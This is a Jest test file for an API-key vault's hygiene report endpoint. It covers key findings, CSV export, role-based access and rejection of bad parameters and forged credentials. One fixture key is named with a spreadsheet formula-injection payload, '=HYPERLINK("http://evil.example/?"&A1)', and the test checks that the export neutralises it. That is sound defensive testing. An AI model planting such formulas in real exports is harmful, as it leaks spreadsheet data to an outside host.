import { parse as parseCsv } from 'csv-parse/sync';
import { createTestContext, TestContext, TestUser } from '../support/test-app';
import { createApiToken, createKey, createProject, CreatedKey } from '../support/factories';
import { expectError, expectRefused, Headers, refusedCredentials, REFUSED_CREDENTIALS, RouteCase } from '../support/auth-helpers';

jest.setTimeout(60_000);

const DAY = 86_400_000;
const COLUMNS = ['finding', 'keyId', 'keyName', 'provider', 'keyStatus', 'ownerId', 'ownerUsername', 'projectId', 'projectName', 'createdAt', 'secretSetAt', 'expiresAt', 'lastUsedAt', 'revealsLast30Days', 'health', 'detail'];

type Item = Record<string, any>;

describe('GET /reports/hygiene', () => {
  let ctx: TestContext;
  let admin: TestUser;
  let owner: TestUser;
  let leaver: TestUser;
  let auditor: TestUser;
  let project: { id: string; name: string };
  let empty: { id: string; name: string };
  const k: Record<string, CreatedKey> = {};
  const now = Date.now();

  const set = (id: string, sql: string, params: unknown[]) => ctx.db.transaction((m) => m.query(`UPDATE provider_keys SET ${sql} WHERE id = ?`, [...params, id]));
  const report = (query = '', auth: Headers = admin.auth) => ctx.http().get(`/api/v1/reports/hygiene${query}`).set(auth);
  const findings = (items: Item[], finding: string) => items.filter((i) => i.finding === finding).map((i) => i.keyId ?? i.projectId);
  const reveal = (key: CreatedKey) => ctx.http().post(`/api/v1/provider-keys/${key.id}/reveal`).set(owner.auth).send({});

  beforeAll(async () => {
    ctx = await createTestContext();
    admin = await ctx.user('admin');
    owner = await ctx.user('member');
    leaver = await ctx.user('member');
    auditor = await ctx.user('auditor');
    project = await createProject(ctx, admin, 'payments');
    empty = await createProject(ctx, admin, 'empty one');
    const plant = (name: string, fields: { ownerId?: string; expiresAt?: string } = {}) => createKey(ctx, admin, { ownerId: fields.ownerId ?? owner.id, projectId: project.id, name, ...(fields.expiresAt ? { expiresAt: fields.expiresAt } : {}) });

    k.fresh = await plant('fresh');
    k.neverUsed = await plant('never used');
    await set(k.neverUsed.id, 'created_at = ?, secret_set_at = ?', [now - 100 * DAY, now - 100 * DAY]);
    k.revealedLongAgo = await plant('revealed long ago');
    await set(k.revealedLongAgo.id, 'created_at = ?, secret_set_at = ?, last_revealed_at = ?', [now - 200 * DAY, now - 200 * DAY, now - 95 * DAY]);
    k.rotated = await plant('rotated, used through the gateway');
    await set(k.rotated.id, 'created_at = ?, secret_set_at = ?', [now - 100 * DAY, now - 10 * DAY]);
    k.expiring = await plant('expiring', { expiresAt: new Date(now + 10 * DAY).toISOString() });
    k.expired = await plant('expired', { expiresAt: new Date(now + DAY).toISOString() });
    await set(k.expired.id, 'expires_at = ?', [now - 2 * DAY]);
    k.leavers = await plant('leaver’s', { ownerId: leaver.id });
    k.orphan = await plant('orphan');
    await set(k.orphan.id, 'project_id = ?', ['01890000-0000-7000-8000-0000000000ff']);
    k.broken = await plant('broken');
    await set(k.broken.id, 'health_status = ?, health_detail = ?', ['invalid', 'HTTP 401: Incorrect API key provided']);
    k.formula = await plant('=HYPERLINK("http://evil.example/?"&A1)', { expiresAt: new Date(now + 20 * DAY).toISOString() });
    k.gone = await plant('deleted');
    await set(k.gone.id, 'created_at = ?, secret_set_at = ?', [now - 300 * DAY, now - 300 * DAY]);
    expect((await ctx.http().delete(`/api/v1/provider-keys/${k.gone.id}`).set(admin.auth)).status).toBe(204);

    // Used through the gateway 5 days ago: not unused, whatever its reveals say.
    const vk = await ctx.http().post(`/api/v1/provider-keys/${k.rotated.id}/virtual-keys`).set(owner.auth).send({ name: 'job' });
    expect(vk.status).toBe(201);
    await ctx.db.transaction((m) => m.query('UPDATE virtual_keys SET last_used_at = ? WHERE id = ?', [now - 5 * DAY, vk.body.id]));
    for (let i = 0; i < 3; i++) expect((await reveal(k.fresh)).status).toBe(200);
    expect((await reveal(k.expiring)).status).toBe(200);
    expect((await ctx.http().patch(`/api/v1/users/${leaver.id}`).set(admin.auth).send({ status: 'disabled' })).status).toBe(200);
  });
  afterAll(() => ctx.close());

  it('lists each finding with the keys it is about, and no deleted key', async () => {
    const res = await report();
    expect(res.status).toBe(200);
    expect(Object.keys(res.body).sort()).toEqual(['days', 'generatedAt', 'items', 'truncated']);
    expect(res.body).toMatchObject({ days: 90, truncated: [] });
    const items: Item[] = res.body.items;
    for (const i of items) expect(Object.keys(i).sort()).toEqual([...COLUMNS].sort());
    expect(findings(items, 'unused').sort()).toEqual([k.neverUsed.id, k.revealedLongAgo.id].sort());
    expect(findings(items, 'old').sort()).toEqual([k.neverUsed.id, k.revealedLongAgo.id].sort());
    expect(findings(items, 'expiring')).toEqual([k.expiring.id, k.formula.id]);
    expect(findings(items, 'expired')).toEqual([k.expired.id]);
    expect(findings(items, 'owner_disabled')).toEqual([k.leavers.id]);
    expect(findings(items, 'project_missing')).toEqual([k.orphan.id]);
    expect(findings(items, 'project_empty')).toEqual([empty.id]);
    expect(findings(items, 'most_revealed')).toEqual([k.fresh.id, k.expiring.id]);
    expect(findings(items, 'unhealthy')).toEqual([k.broken.id]);
    expect(JSON.stringify(items)).not.toContain(k.gone.id);

    const by = (finding: string, id: string) => items.find((i) => i.finding === finding && (i.keyId ?? i.projectId) === id)!;
    expect(by('unused', k.neverUsed.id)).toMatchObject({ keyName: 'never used', ownerUsername: owner.username, projectName: 'payments', lastUsedAt: null, detail: 'never revealed or used through the gateway' });
    expect(by('unused', k.revealedLongAgo.id).detail).toBe('not revealed or used through the gateway for 95 days');
    expect(by('old', k.revealedLongAgo.id).detail).toBe('secret set 200 days ago');
    expect(by('expiring', k.expiring.id).detail).toBe('expires in 10 day(s)');
    expect(by('expired', k.expired.id).detail).toBe('expired 2 day(s) ago');
    expect(by('owner_disabled', k.leavers.id).detail).toBe(`owner ${leaver.username} is disabled`);
    expect(by('most_revealed', k.fresh.id)).toMatchObject({ revealsLast30Days: 3, detail: '3 reveal(s) in the last 30 days' });
    expect(by('unhealthy', k.broken.id)).toMatchObject({ health: 'invalid', detail: 'invalid: HTTP 401: Incorrect API key provided' });
    expect(by('project_empty', empty.id)).toMatchObject({ keyId: null, projectName: 'empty one', detail: 'the project holds no live key' });
  });

  it('takes N days as the horizon of unused, old and expiring', async () => {
    const items: Item[] = (await report('?days=7')).body.items;
    expect(findings(items, 'expiring')).toEqual([]);
    expect(findings(items, 'old').sort()).toEqual([k.neverUsed.id, k.revealedLongAgo.id, k.rotated.id].sort());
    expect(findings(items, 'unused')).toEqual(expect.arrayContaining([k.neverUsed.id, k.revealedLongAgo.id]));
    expect(findings(items, 'unused')).not.toContain(k.rotated.id);
    const wide: Item[] = (await report('?days=365')).body.items;
    expect(findings(wide, 'unused')).toEqual([]);
    expect(findings(wide, 'old')).toEqual([]);
  });

  it('exports the same rows as CSV (with a UTF-8 BOM for Excel), with formula triggers neutralised as in the audit export', async () => {
    const json: Item[] = (await report()).body.items;
    const res = await report('?format=csv');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="pkv-hygiene-[0-9TZ-]+\.csv"$/);
    // A UTF-8 byte order mark first, as in the audit export: Excel reads the file as UTF-8 only with it.
    expect(res.text.startsWith('\ufefffinding,')).toBe(true);
    const rows: string[][] = parseCsv(res.text, { bom: true });
    expect(rows[0]).toEqual(COLUMNS);
    expect(rows.length - 1).toBe(json.length);
    expect(rows.slice(1).map((r) => `${r[0]}:${r[1] || r[7]}`)).toEqual(json.map((i) => `${i.finding}:${i.keyId ?? i.projectId}`));
    const formula = rows.filter((r) => r[1] === k.formula.id);
    expect(formula.length).toBe(1);
    for (const r of formula) expect(r[2]).toBe('\'=HYPERLINK("http://evil.example/?"&A1)');
  });

  it('lets admins and auditors read it (API tokens: audit:read); members and tokens without audit:read 403', async () => {
    const t = async (as: TestUser, scopes: string[]) => (await createApiToken(ctx, as, scopes)).auth;
    const cases: Array<[string, Headers, number]> = [
      ['admin', admin.auth, 200],
      ['auditor', auditor.auth, 200],
      ['member', owner.auth, 403],
      ['admin token with audit:read', await t(admin, ['audit:read']), 200],
      ['auditor token with audit:read', await t(auditor, ['audit:read']), 200],
      ['admin token without audit:read', await t(admin, ['provider-keys:read', 'provider-keys:write', 'users:read']), 403],
      ['auditor token without audit:read', await t(auditor, ['provider-keys:read']), 403],
      ['member token', await t(owner, ['provider-keys:read']), 403],
    ];
    for (const [who, auth, status] of cases) {
      expect({ who, json: (await report('', auth)).status, csv: (await report('?format=csv', auth)).status }).toEqual({ who, json: status, csv: status });
    }
  });

  it('refuses bad parameters with 400 and details', async () => {
    for (const q of ['?days=0', '?days=3651', '?days=abc', '?days=1.5', '?days=-3', '?format=xml', '?other=1', '?days=1&days=2']) {
      const res = await report(q);
      expect({ q, status: res.status }).toEqual({ q, status: 400 });
      expectError(res, 400, 'validation_failed');
      expect(res.body.error.details.length).toBeGreaterThan(0);
    }
  });

  it('refuses every dead or forged credential with 401', async () => {
    const refused = await refusedCredentials(ctx, admin);
    for (const s of refused.secrets) ctx.secrets.add('credential', s);
    const route: RouteCase = { route: 'GET /reports/hygiene', method: 'get', path: () => '/api/v1/reports/hygiene?format=csv' };
    expect((await report('', refused.control)).status).toBe(200);
    for (const kind of REFUSED_CREDENTIALS) {
      try {
        await expectRefused(ctx, route, refused.headers[kind]());
      } catch (err) {
        throw new Error(`${route.route} with ${kind}: ${(err as Error).message}`);
      }
    }
  });
});
